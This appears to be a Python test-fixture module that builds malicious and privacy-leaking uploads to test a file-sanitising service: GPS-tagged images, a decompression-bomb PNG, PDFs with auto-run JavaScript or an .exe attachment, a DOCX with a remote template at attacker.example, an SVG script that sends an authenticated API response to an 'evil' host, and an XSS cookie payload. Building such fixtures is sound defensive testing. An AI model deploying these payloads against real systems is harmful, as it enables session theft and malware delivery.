"""Files built in the test itself, each a realistic example of what an
applicant (or an attacker) might upload."""

import io
import struct
import zipfile
import zlib

from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

GPS_IFD = 0x8825
ORIENTATION = 0x0112
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description>Home: 41.3N 69.2E</rdf:Description></x:xmpmeta>'


def gps_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[ORIENTATION] = 6  # the phone was held sideways: rotate 90 degrees to view
    exif[0x010F] = "PhoneMaker"
    exif[GPS_IFD] = {1: "N", 2: (41.0, 18.0, 30.0), 3: "E", 4: (69.0, 14.0, 0.0)}
    return exif


def jpeg_with_gps(size=(64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(
        out, "JPEG", exif=gps_exif(), xmp=XMP, comment=b"taken at home", quality=95
    )
    return out.getvalue()


def png(size=(32, 32), mode="RGBA", with_metadata=False) -> bytes:
    out = io.BytesIO()
    options = {}
    if with_metadata:
        info = PngInfo()
        info.add_text("Author", "Dilnoza Karimova")
        options = {"pnginfo": info, "exif": gps_exif()}
    Image.new(mode, size, (0, 120, 200, 255) if mode == "RGBA" else 128).save(out, "PNG", **options)
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims huge dimensions (a decompression bomb's shape)."""
    data = bytearray(png(size=(8, 8), mode="L"))
    # IHDR data starts after the signature (8), length (4) and type (4).
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def pdf(*, javascript: str = "", encrypt_with: str = "", attachment: bytes = b"") -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if javascript:
        # What pypdf's removed add_js did: run a script when the document opens.
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Action"),
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject(javascript),
            }
        )
    if attachment:
        writer.add_attachment("invoice.exe", attachment)
    if encrypt_with:
        writer.encrypt(user_password=encrypt_with, owner_password=encrypt_with)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>'
    "</Types>"
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Yo‘lni ta’mirlashni so‘rayman.</w:t></w:r></w:p></w:body></w:document>"
)
REMOTE_TEMPLATE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://attacker.example/template.dotm" TargetMode="External"/></Relationships>'
)


def docx(*, main=DOCX_MAIN, extra: dict[str, bytes | str] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=main))
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("word/document.xml", DOCUMENT)
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/api/v1/auth/me').then(r => r.text()).then(t => location='//evil/?'+t)</script></svg>"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
# The start of a Windows executable: "MZ" header pointing at a "PE" signature.
EXE = b"MZ" + b"\x90\x00" * 29 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 200
